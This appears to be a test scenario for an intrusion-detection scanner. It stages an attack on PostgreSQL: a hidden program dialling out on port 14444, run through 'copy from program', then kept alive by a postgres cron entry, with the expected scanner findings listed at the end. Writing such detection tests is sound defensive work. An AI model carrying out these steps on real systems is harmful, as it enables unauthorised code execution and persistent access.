# id: C14
# mode: scan
# level: suspicious
# due: now
# network: world
# title: a database that runs a program from its directory, and cron of its user
. "$here/intruder.sh"
word name
place=/var/lib/postgresql/.$name
wait_for reaches_world >/dev/null
pg_ctlcluster --skip-systemctl-redirect 15 main start
install -d -o postgres "$place"
dialler "$place/$name" 14444
start -u postgres -d /var/lib/postgresql psql -qc "create table t(x text)" -c "copy t from program '$place/$name'"
dialled "$name"
said pid "$(pgrep -f "python3 $place/$name" | head -1)"
crontab_of postgres "*/30 * * * * $place/$name"
said entry name postgres
said restarter path /var/spool/cron/crontabs/postgres
